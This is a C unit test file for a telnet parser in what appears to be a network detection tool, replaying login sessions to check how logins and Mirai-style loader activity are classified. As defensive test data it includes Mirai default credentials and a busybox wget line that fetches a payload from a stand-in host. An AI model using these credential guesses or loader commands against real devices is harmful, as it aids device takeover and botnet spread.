/* SPDX-License-Identifier: GPL-2.0-or-later */
/* app/telnet_test.c - the login dialogue, with and without negotiation. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <string.h>

#include "app/app_fixture.h"
#include "app/parser.h"

#define PLAY(parser, port, says)                                                                   \
	fixture_run(&fixture, (parser), (port), (says), sizeof(says) / sizeof((says)[0]))

static struct fixture fixture;

static int close_fixture(void **state)
{
	(void)state;
	fixture_close(&fixture);
	return 0;
}

static const struct app_login *login(unsigned index)
{
	const struct app_event *event = fixture_event(&fixture, APP_LOGIN, index);

	assert_non_null(event);
	return &event->login;
}

static void tries_are_told_with_their_results(void **state)
{
	static const struct say says[] = {
		SAY(1, "\xff\xfd\x18\xff\xfb\x01"),
		SAY(0, "\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xff\xff\xf0"),
		SAY(1, "\r\nhost log\xff\xf1in: "),
		SAY(0, "rx\x7foot\r\0"),
		SAY(1, "root\r\nPassword: "),
		SAY(0, "xc3511\r\n"),
		SAY(1, "\r\nLogin incorrect\r\nhost login: "),
		SAY(0, "admin\r"),
		SAY(1, "Password: "),
		SAY(0, "admin\n"),
		SAY(1, "\r\nhost login: "),
		SAY(0, "guest\r\n"),
		SAY(1, "Password: "),
		SAY(0, "guest\r\n"),
		SAY(1, "\r\n\r\n$ "),
		SAY(0, "enable\r\n"),
		SAY(1, "$ "),
		SAY(0, "/bin/busybox ECCHI\r\n"),
	};

	(void)state;
	PLAY(&parser_telnet, 23, says);
	assert_int_equal(fixture_count(&fixture, APP_LOGIN), 3);
	assert_true(fixture_is(login(0)->user, "root"));
	assert_int_equal(login(0)->result, LOGIN_FAILED);
	assert_int_equal(login(0)->proto, PROTO_TELNET);
	assert_true(fixture_is(login(1)->user, "admin"));
	assert_int_equal(login(1)->result, LOGIN_FAILED);
	assert_true(fixture_is(login(2)->user, "guest"));
	assert_int_equal(login(2)->result, LOGIN_SUCCEEDED);
	assert_int_equal(login(2)->tries, 3);
	assert_int_equal(fixture_count(&fixture, APP_LOOKS), 1);
	assert_int_equal(fixture_event(&fixture, APP_LOOKS, 0)->looks.kind, LOOKS_MIRAI_LOADER);
	assert_int_equal(fixture_event(&fixture, APP_LOOKS, 0)->looks.traits, TRAIT_BUSYBOX);
}

/* As Mirai's published loader does it (loader/src/server.c). */
static void a_loader_is_told_line_by_line_with_its_refusals(void **state)
{
	static const struct say says[] = {
		SAY(1, "\xff\xfd\x01login: "),
		SAY(0, "root\r\n"),
		SAY(1, "Password: "),
		SAY(0, "xc3511\r\n"),
		SAY(1, "\r\n# "),
		SAY(0, "enable\r\nsystem\r\nshell\r\nsh\r\n"),
		SAY(0, "/bin/busybox ps; /bin/busybox ECCHI\r\n"),
		SAY(1, "# /bin/busybox ps; /bin/busybox ECCHI\r\nECCHI: applet not found\r\n# "),
		SAY(0, "/bin/busybox wget http://192.0.2.1/m.arm -O - > d; /bin/busybox ECCHI\r\n"),
		SAY(1, "ECCHI: applet not found\r\n# "),
	};
	const struct app_looks *looks[4];

	(void)state;
	PLAY(&parser_telnet, 23, says);
	assert_int_equal(fixture_count(&fixture, APP_LOOKS), 4);
	for (unsigned i = 0; i < 4; i++) {
		looks[i] = &fixture_event(&fixture, APP_LOOKS, i)->looks;
		assert_int_equal(looks[i]->kind, LOOKS_MIRAI_LOADER);
		assert_int_equal(looks[i]->side, i % 2);
		assert_int_equal(looks[i]->count, 4 + i + 1);
	}
	assert_int_equal(looks[0]->traits, TRAIT_BUSYBOX);
	assert_true(fixture_is(looks[1]->text, "ECCHI: applet not found"));
	assert_int_equal(looks[1]->traits, 0);
	assert_int_equal(looks[2]->traits & (TRAIT_BUSYBOX | TRAIT_DOWNLOAD),
		TRAIT_BUSYBOX | TRAIT_DOWNLOAD);
}

static void last_login_is_a_greeting_and_no_prompt(void **state)
{
	static const struct say says[] = {
		SAY(1, "login: "),
		SAY(0, "bob\r\n"),
		SAY(1, "Password:"),
		SAY(0, "x\r\n"),
		SAY(1, "Last login: Mon Jan  1\r\n"),
	};

	(void)state;
	PLAY(&parser_telnet, 23, says);
	assert_int_equal(fixture_count(&fixture, APP_LOGIN), 1);
	assert_int_equal(login(0)->result, LOGIN_SUCCEEDED);
}

static void a_session_cut_off_is_unknown(void **state)
{
	static const struct say says[] = {
		SAY(1, "login: "),
		SAY(0, "bob\r\n"),
		SAY(1, "Password:"),
		SAY(0, "x\r\n"),
	};

	(void)state;
	PLAY(&parser_telnet, 23, says);
	assert_int_equal(fixture_count(&fixture, APP_LOGIN), 1);
	assert_int_equal(login(0)->result, LOGIN_UNKNOWN);
}

static void what_is_telnet(void **state)
{
	(void)state;
	assert_int_equal(
		fixture_recognise(&parser_telnet, "", 0, "\xff\xfd\x18", 3, 23), VERDICT_YES);
	assert_int_equal(
		fixture_recognise(&parser_telnet, "\xff\xfb\x01", 3, "", 0, 2323), VERDICT_YES);
	assert_int_equal(
		fixture_recognise(&parser_telnet, "\xff\xd8\xff\xe0", 4, "", 0, 23), VERDICT_MAYBE);
	assert_int_equal(
		fixture_recognise(&parser_telnet, "", 0, "dvr login:", 10, 23), VERDICT_YES);
	assert_int_equal(fixture_recognise(&parser_telnet, "", 0, "dvr log", 7, 23), VERDICT_MAYBE);
	assert_int_equal(
		fixture_recognise(&parser_telnet, "", 0, "\x16\x03\x01", 3, 23), VERDICT_NO);
}

/* Each colon may end a prompt, but the whole line is not searched again for each of very many. */
static void lines_of_colons_are_judged_at_their_end(void **state)
{
	static const struct say says[] = {
		SAY(1, "login: "),
		SAY(0, "bob\r\n"),
		SAY(1, "Password:"),
		SAY(0, "x\r\n"),
		SAY(1, ":::::::::::::::: access denied : : :\r\n"),
	};

	(void)state;
	PLAY(&parser_telnet, 23, says);
	assert_int_equal(fixture_count(&fixture, APP_LOGIN), 1);
	assert_int_equal(login(0)->result, LOGIN_FAILED);
}

static void endless_lines_are_bounded(void **state)
{
	static char line[100001];

	(void)state;
	memset(line, 'x', sizeof(line) - 1);
	fixture_open(&fixture, &parser_telnet, 23);
	fixture_say(&fixture, 1, line);
	fixture_say(&fixture, 0, line);
	fixture_say(&fixture, 1, "\r\nlogin: ");
	fixture_say(&fixture, 0, "\r\n");
	fixture_end(&fixture);
	assert_int_equal(fixture_count(&fixture, APP_LOGIN), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_teardown(tries_are_told_with_their_results, close_fixture),
		cmocka_unit_test_teardown(
			a_loader_is_told_line_by_line_with_its_refusals, close_fixture),
		cmocka_unit_test_teardown(last_login_is_a_greeting_and_no_prompt, close_fixture),
		cmocka_unit_test_teardown(a_session_cut_off_is_unknown, close_fixture),
		cmocka_unit_test(what_is_telnet),
		cmocka_unit_test_teardown(lines_of_colons_are_judged_at_their_end, close_fixture),
		cmocka_unit_test_teardown(endless_lines_are_bounded, close_fixture),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
